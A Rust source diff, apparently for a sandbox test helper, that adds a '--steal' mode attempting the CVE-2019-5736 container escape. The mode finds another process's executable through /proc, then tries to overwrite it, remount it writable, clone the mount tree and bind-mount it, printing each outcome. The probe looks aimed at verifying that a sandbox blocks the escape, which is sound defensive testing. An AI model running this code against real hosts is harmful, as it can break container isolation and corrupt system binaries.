@@ -8,6 +8,7 @@ use std::collections::BTreeSet;
 use std::fmt::Display;
 use std::fs;
 use std::io::Read as _;
+use std::os::fd::AsRawFd as _;
 use std::os::unix::ffi::OsStrExt as _;
 use std::os::unix::fs::{FileTypeExt as _, MetadataExt as _, OpenOptionsExt as _};
 use std::path::Path;
@@ -21,6 +22,11 @@ fn main() {
         && flag == "--notify"
     {
         return notify(socket, message);
+    }
+    if let [_, flag] = args.as_slice()
+        && flag == "--steal"
+    {
+        return steal();
     }
     if let [_, flag, mode, number, first] = args.as_slice()
         && flag == "--call"
@@ -60,6 +66,87 @@ fn main() {
 fn notify(socket: &str, message: &str) {
     let sender = std::os::unix::net::UnixDatagram::unbound().expect("a socket");
     sender.send_to(message.as_bytes(), socket).expect("sent");
+}
+
+/// Waits for a process that runs another program than this one, holds that program open until the
+/// process is gone, and tries everything to write to it (CVE-2019-5736).
+fn steal() {
+    let own = fs::metadata("/proc/self/exe").expect("own program");
+    println!("waiting");
+    let (pid, program) = loop {
+        let caught = processes().find_map(|pid| {
+            let program = fs::File::open(format!("/proc/{pid}/exe")).ok()?;
+            let of = program.metadata().ok()?;
+            ((of.dev(), of.ino()) != (own.dev(), own.ino())).then_some((pid, program))
+        });
+        if let Some(caught) = caught {
+            break caught;
+        }
+    };
+    let held = program.as_raw_fd();
+    let way = format!("/proc/self/fd/{held}");
+    let busy = format!("refused with errno {}", libc::ETXTBSY);
+    // While anybody executes it, on the host too, it cannot be written anyway.
+    while Path::new(&format!("/proc/{pid}/exe")).exists() || sabotage(&way) == busy {
+        std::thread::yield_now();
+    }
+    println!("write: {}", sabotage(&way));
+    println!("remount: {}, {}", make_writable(held), sabotage(&way));
+    let clone = libc::AT_EMPTY_PATH as u32 | libc::OPEN_TREE_CLONE;
+    // SAFETY: the empty path ends in NUL.
+    let tree = unsafe { libc::syscall(libc::SYS_open_tree, held, c"".as_ptr(), clone) } as i32;
+    let tree_way = format!("/proc/self/fd/{tree}");
+    println!(
+        "clone: {}, {}, {}",
+        answer(tree.min(0).into()),
+        make_writable(tree),
+        sabotage(&tree_way)
+    );
+    let from = std::ffi::CString::new(way).expect("no NUL");
+    let _ = fs::write("/mnt/target", "");
+    for flags in [libc::MS_BIND, libc::MS_BIND | libc::MS_REMOUNT] {
+        // SAFETY: both paths end in NUL; the other pointers may be null.
+        let done = unsafe {
+            libc::mount(
+                from.as_ptr(),
+                c"/mnt/target".as_ptr(),
+                std::ptr::null(),
+                flags,
+                std::ptr::null(),
+            )
+        };
+        println!("bind: {}", answer(done.into()));
+        if done != 0 {
+            break;
+        }
+        println!("bound: {}", sabotage("/mnt/target"));
+    }
+    println!("tried");
+}
+
+fn processes() -> impl Iterator<Item = u32> {
+    let own = std::process::id();
+    let names = fs::read_dir("/proc").expect("proc").flatten().map(|entry| entry.file_name());
+    names.filter_map(|name| name.to_str()?.parse().ok()).filter(move |pid| *pid != own)
+}
+
+fn sabotage(path: &str) -> String {
+    use std::os::unix::fs::FileExt as _;
+    match fs::OpenOptions::new().write(true).open(path) {
+        Ok(file) => format!("opened for writing, {:?}", file.write_at(b"stolen", 0)),
+        Err(e) => refusal(&e),
+    }
+}
+
+/// Clears the read-only attribute of the mount that the descriptor is on.
+fn make_writable(fd: i32) -> String {
+    let clear: [u64; 4] = [0, 1, 0, 0];
+    // SAFETY: a `struct mount_attr` of four words, which outlives the call; the path ends in NUL.
+    let done = unsafe {
+        let (path, size) = (c"".as_ptr(), size_of_val(&clear));
+        libc::syscall(libc::SYS_mount_setattr, fd, path, libc::AT_EMPTY_PATH, &clear, size)
+    };
+    answer(done)
 }
 
 /// Makes a system call with one argument in a mode of the processor's and prints the result.
